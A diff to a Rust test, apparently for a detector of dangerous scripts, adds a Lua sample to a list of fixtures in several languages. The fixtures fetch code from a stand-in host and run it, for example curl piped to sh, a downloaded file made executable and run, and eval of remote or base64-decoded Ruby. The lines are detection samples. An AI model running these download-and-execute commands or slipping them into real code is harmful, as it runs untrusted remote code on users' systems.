@@ -33,6 +33,11 @@ fn what_is_fetched_decoded_or_computed_and_run_is_a_danger_in_every_language() {
             "import subprocess\nsubprocess.run(['bash', '-c', 'curl -s https://x.example.com | sh'])\n",
         ),
         ("python3", "share/stats", "import os\nos.system('curl -s https://x.example.com/i | sh')\n"),
+        (
+            "lua",
+            "a.lua",
+            "local where = 'https://x.example.com/l'\nos.execute('curl -sf -o ./.n ' .. where .. ' && chmod +x ./.n && ./.n')\n",
+        ),
         ("ruby", "a.rb", "TOPLEVEL_BINDING.send(:eval, DATA.read.unpack1(\"m\"))\n__END__\ncHV0cw==\n"),
         ("ruby", "a.rb", "require 'open-uri'\neval URI.open('https://x.example.com/a').read\n"),
         ("ruby", "a.rb", "require 'base64'\neval(Base64.decode64('cHV0cw=='))\n"),
